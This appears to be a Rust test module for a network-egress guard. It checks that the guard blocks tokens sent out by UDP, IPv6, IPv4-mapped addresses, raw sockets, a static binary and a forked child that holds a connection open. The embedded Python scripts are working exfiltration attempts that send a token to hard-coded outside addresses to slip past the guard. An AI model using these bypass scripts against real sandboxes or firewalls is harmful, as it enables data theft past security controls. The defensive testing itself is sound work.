//! Ways round a guard of connections: other protocols, other addresses, programs that use no library, and time.

use std::thread;
use std::time::{Duration, Instant};

use super::trip::Trip;
use crate::case::Effect;
use crate::gate::case::Case;
use crate::payload::ATTACK_ARGUMENT;
use crate::place::copy_program;

/// Sends the token by whatever is not TCP over IPv4.
const OTHERWISE: &str = r#"
import socket, sys
token = sys.argv[1].encode()
def attempt(what, do):
    try: do(); print("sent", what)
    except OSError as error: print("not sent", what, error)
def datagram(family, address):
    def do():
        udp = socket.socket(family, socket.SOCK_DGRAM); udp.settimeout(1); udp.connect(address)
        udp.send(token); udp.send(token); udp.recv(100)
    return do
def stream(family, address):
    def do():
        tcp = socket.socket(family, socket.SOCK_STREAM); tcp.settimeout(2); tcp.connect(address)
        tcp.sendall(b"GET /" + token + b" HTTP/1.1\r\nHost: x\r\n\r\n"); tcp.recv(100)
    return do
for port in (443, 80, 53, 123, 8443):
    attempt(f"udp {port}", datagram(socket.AF_INET, ("93.184.216.34", port)))
    attempt(f"udp6 {port}", datagram(socket.AF_INET6, ("2606:2800:220:1::5", port)))
for port in (80, 443, 8080, 22, 25, 853):
    attempt(f"tcp6 {port}", stream(socket.AF_INET6, ("2606:2800:220:1::5", port)))
    attempt(f"mapped {port}", stream(socket.AF_INET6, ("::ffff:93.184.216.35", port)))
for kind, protocol in ((socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 1), (socket.SOCK_RAW, 255), (socket.SOCK_SEQPACKET, 132), (socket.SOCK_STREAM, 262)):
    attempt(f"kind {kind} {protocol}", lambda: socket.socket(socket.AF_INET, kind, protocol).sendto(token, ("93.184.216.34", 80)))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
print("tried")
"#;

/// Connects, says the token, and leaves a child behind that keeps the connection.
const KEEP: &str = r#"
import os, socket, sys, time
stream = socket.create_connection(("example.test", 2222), timeout=5)
stream.recv(100); stream.sendall(sys.argv[1].encode() + b"\n"); stream.recv(100)
if os.fork() == 0:
    os.setsid()
    for fd in (0, 1, 2): os.close(fd)
    time.sleep(60)
print("kept")
"#;

pub(super) fn cases() -> Vec<Case> {
    vec![
        Case::new(
            "other-protocols",
            "datagrams, raw sockets and the other kind of address reach nobody",
            |stand| {
                let trip = Trip::begin(stand)?;
                let script = trip.script(OTHERWISE)?;
                trip.bare("python3", &[script, "TOKEN"])?;
                Ok(trip.judged(|_| true))
            },
            |stand| {
                let trip = Trip::begin(stand)?;
                let script = trip.script(OTHERWISE)?;
                let allow = ["example.test:443", "example.test:80", "example.test:8080"];
                let tried = trip.guarded(&allow, "python3", &[script, "TOKEN"])?.says("tried")?;
                tried.refused("[2606:2800:220:1::5]:443", "address_not_granted")?;
                Ok(trip.judged(|_| true))
            },
        ),
        Case::new(
            "static-binary",
            "a program without libraries, proxies or names reaches nobody either",
            |stand| {
                let trip = Trip::begin(stand)?;
                let tool = stand.bench.tool.display().to_string();
                trip.bare(&tool, &[ATTACK_ARGUMENT, "send-to", "93.184.216.35:80", "TOKEN"])?;
                Ok(trip.judged(|_| true))
            },
            |stand| {
                let trip = Trip::begin(stand)?;
                let copy = stand.workspace.join("static");
                copy_program(&stand.bench.tool, &copy)?;
                let words = [
                    ATTACK_ARGUMENT,
                    "send-to",
                    "93.184.216.35:443",
                    "93.184.216.35:80",
                    "10.0.0.5:443",
                    "TOKEN",
                ];
                let tried = trip.guarded(&["example.test:443"], "./static", &words)?;
                tried.refused("93.184.216.35:443", "address_not_granted")?;
                Ok(trip.judged(|_| true))
            },
        ),
        Case::new(
            "kept-connection",
            "a connection ends with its call, whoever still holds it",
            |stand| {
                let trip = Trip::begin(stand)?;
                let script = trip.script(KEEP)?;
                trip.bare("python3", &[script, "TOKEN"])?;
                Ok(Effect::through_if(!is_closed_within(&trip, Duration::from_secs(2)), "it is still open"))
            },
            |stand| {
                let trip = Trip::begin(stand)?;
                let script = trip.script(KEEP)?;
                trip.guarded(&["example.test:2222"], "python3", &[script, "TOKEN"])?.says("kept")?;
                Ok(Effect::through_if(!is_closed_within(&trip, Duration::from_secs(10)), "it is still open"))
            },
        ),
    ]
}

fn is_closed_within(trip: &Trip<'_>, time: Duration) -> bool {
    let until = Instant::now() + time;
    while Instant::now() < until {
        if trip.reached().iter().any(|visit| visit.says("closed")) {
            return true;
        }
        thread::sleep(Duration::from_millis(50));
    }
    false
}
